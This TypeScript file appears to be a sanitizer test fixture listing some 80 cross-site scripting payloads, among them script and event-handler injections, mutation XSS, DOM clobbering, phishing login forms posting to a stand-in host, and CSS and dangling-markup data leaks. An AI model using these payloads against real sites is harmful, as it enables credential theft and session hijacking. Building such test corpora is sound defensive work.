const ATTACKER_URL = 'https://evil.example/'

/** HTML texts, many of them malformed. `hurt()` represents any script of the attacker. */
const PAYLOAD_TEMPLATES: readonly string[] = [
  // Scripts
  '<script>hurt()</script>',
  `<script src="${ATTACKER_URL}a.js"></script>`,
  '<scr<script>ipt>hurt()</scr</script>ipt>',
  '<script/x>hurt()</script/x>',
  '<svg><script>hurt()</script></svg>',
  '<svg><script href="data:text/javascript,hurt()"></script></svg>',
  '<math><script>hurt()</script></math>',
  `<link rel="modulepreload" href="${ATTACKER_URL}a.js"><link rel="prefetch" href="${ATTACKER_URL}b"><link rel="stylesheet" href="${ATTACKER_URL}c.css">`,
  // Event handlers
  '<img src="x" onerror="hurt()">',
  '<img src=x onerror=hurt()//',
  '<img src="/media/contact-qr.svg" onload="hurt()">',
  '<img/src/onerror=hurt()>',
  '<IMG SRC=x ONERROR="hurt()">',
  '<img src=x oneonerrorrror="hurt()" onerror\n=\n"hurt()">',
  '<p onclick="hurt()" onmouseover="hurt()" onpointerover="hurt()">tap</p>',
  '<input autofocus onfocus="hurt()">',
  '<details open ontoggle="hurt()"><summary>more</summary></details>',
  '<video src="x" onerror="hurt()"></video><audio src="x" onerror="hurt()"></audio>',
  '<video><source src="x" onerror="hurt()"></video>',
  '<body onload="hurt()" onpageshow="hurt()">',
  '<div style="animation:x 1ms" onanimationstart="hurt()">a</div><marquee onstart="hurt()">m</marquee>',
  '<style>@keyframes x{}</style><b style="animation-name:x" onanimationend="hurt()">a</b>',
  '<a onfocus="hurt()" tabindex="0" autofocus>focus</a><xss contenteditable onbeforeinput="hurt()">x</xss>',
  '<div popover id="pop" onbeforetoggle="hurt()">x</div><button popovertarget="pop">open</button>',
  // SVG and MathML
  '<svg onload="hurt()"></svg>',
  '<svg><animate onbegin="hurt()" attributeName="x" dur="1s"></svg>',
  '<svg><a xlink:href="javascript:hurt()"><text y="20">tap</text></a></svg>',
  '<svg><set attributeName="href" to="javascript:hurt()"></set></svg>',
  `<svg><use href="${ATTACKER_URL}a.svg#a"></use><image href="${ATTACKER_URL}b.png"></image></svg>`,
  '<svg><foreignObject><img src="x" onerror="hurt()"></foreignObject></svg>',
  `<svg><style>@import url(${ATTACKER_URL}a.css);</style><rect fill="url(${ATTACKER_URL}b.svg#c)"/></svg>`,
  '<math><mtext><img src="x" onerror="hurt()"></mtext></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:hurt()">tap</maction></math>',
  // Frames and objects
  `<iframe src="${ATTACKER_URL}"></iframe>`,
  '<iframe srcdoc="<script>parent.hurt()</script>"></iframe>',
  '<iframe src="javascript:parent.hurt()"></iframe>',
  `<iframe src="data:text/html,<script src=${ATTACKER_URL}frame.js></script>"></iframe>`,
  `<object data="${ATTACKER_URL}a.swf"></object><embed src="${ATTACKER_URL}b.swf"><applet code="${ATTACKER_URL}c"></applet>`,
  '<object data="javascript:parent.hurt()"></object><embed src="javascript:hurt()">',
  `<portal src="${ATTACKER_URL}"></portal><fencedframe></fencedframe><frameset><frame src="${ATTACKER_URL}"></frameset>`,
  // Forms that ask for credentials
  `<form action="${ATTACKER_URL}"><input type="password" name="password"><button>Log in</button></form>`,
  `<form id="login"></form><button form="login" formaction="${ATTACKER_URL}">Log in</button>`,
  '<form action="javascript:hurt()"><input type="submit" value="go"></form>',
  '<isindex action="javascript:hurt()"><textarea>type here</textarea><select><option>a</select>',
  `<input type="image" src="${ATTACKER_URL}a.png" formaction="${ATTACKER_URL}">`,
  // Navigation, and the base of relative addresses
  `<meta http-equiv="refresh" content="0;url=${ATTACKER_URL}">`,
  '<meta http-equiv="refresh" content="0;url=javascript:hurt()">',
  `<base href="${ATTACKER_URL}"><img src="a.png"><a href="b">b</a>`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name="referrer" content="unsafe-url">`,
  // Styles: overlays, and addresses inside styles
  '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Your session ended. Log in again.</div>',
  '<style>body *{display:none}</style><style>@import "https://evil.example/a.css";</style>',
  `<p style="background:url(${ATTACKER_URL}a.png);list-style:url(${ATTACKER_URL}b.png)">x</p>`,
  `<style>input[value^="a"]{background:url(${ATTACKER_URL}a)}@font-face{font-family:x;src:url(${ATTACKER_URL}f.woff2)}p{font-family:x}</style>`,
  '<p style="width:expression(hurt());behavior:url(#default#time2);-moz-binding:url(x)">x</p>',
  `<table background="${ATTACKER_URL}a.png"><tr><td background="${ATTACKER_URL}b.png">x</td></tr></table>`,
  // Names and ids that shadow those of the page (DOM clobbering)
  '<p id="root">a</p><p id="body" name="body">b</p><a id="location" name="location">c</a>',
  '<form id="document" name="cookie"><input name="attributes"><input name="nodeName"></form>',
  '<img name="getElementById"><img name="createElement"><img id="trustedTypes">',
  '<a id="hurts"></a><a id="hurts" name="url" href="javascript:hurt()">x</a>',
  // Links
  '<a href="javascript:hurt()">tap</a>',
  '<a href="JaVaScRiPt:hurt()">tap</a><a href="java&#9;script:hurt()">tap</a><a href="&#1;javascript:hurt()">tap</a>',
  '<a href="data:text/html,<script>opener.hurt()</script>" target="_blank">tap</a><a href="vbscript:hurt()">tap</a>',
  `<a href="//evil.example/" ping="${ATTACKER_URL}">tap</a><a href="/\\evil.example/" target="_top">tap</a>`,
  `<map name="m"><area href="javascript:hurt()" shape="default"></map><img usemap="#m" src="/media/contact-qr.svg">`,
  // Tracking pixels
  `<img src="${ATTACKER_URL}pixel.png"><img srcset="${ATTACKER_URL}2x.png 2x"><picture><source srcset="${ATTACKER_URL}s.png"><img></picture>`,
  `<video poster="${ATTACKER_URL}poster.png"></video><audio src="${ATTACKER_URL}a.mp3" autoplay></audio><track src="${ATTACKER_URL}t.vtt">`,
  "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hurt()'/>\">",
  // Dangling markup
  `<img src='${ATTACKER_URL}?`,
  `<a href="${ATTACKER_URL}"><font size=100>Log in<!--`,
  '</div></div></main></body></html><script>hurt()</script><plaintext>',
  '<textarea><img title="</textarea><img src=x onerror=hurt()>">',
  // HTML that changes its meaning when it is parsed again (mutation XSS)
  '<noscript><p title="</noscript><img src=x onerror=hurt()>">',
  '<svg></p><style><a id="</style><img src=x onerror=hurt()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hurt()&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hurt()>',
  '<svg><style><img src="</style><img src=x onerror=hurt()>"></style></svg>',
  '<math><annotation-xml encoding="text/html"><style><img src="</style><img src=x onerror=hurt()>"></annotation-xml></math>',
  '<template><img src=x onerror=hurt()></template><p is="x-x">x</p>',
  '<div><template shadowrootmode="open"><img src=x onerror=hurt()></template></div>',
  '<xmp><p title="</xmp><img src=x onerror=hurt()>">',
  '<select><iframe></select><img src=x onerror=hurt()>',
  '<a href="&#x6A;avascript&colon;hurt()">tap</a><img src=x onerror&#61;hurt()><![CDATA[<script>hurt()</script>]]>',
]

/**
 * HTML texts that somebody could send through a stolen operator account. Their scripts call `window.hurt` with the
 * index of the text in this list. What they load from another origin is at evil.example.
 */
export const PAYLOADS: readonly string[] = PAYLOAD_TEMPLATES.map((text, number) =>
  text.replaceAll('hurt()', `hurt(${number})`),
)
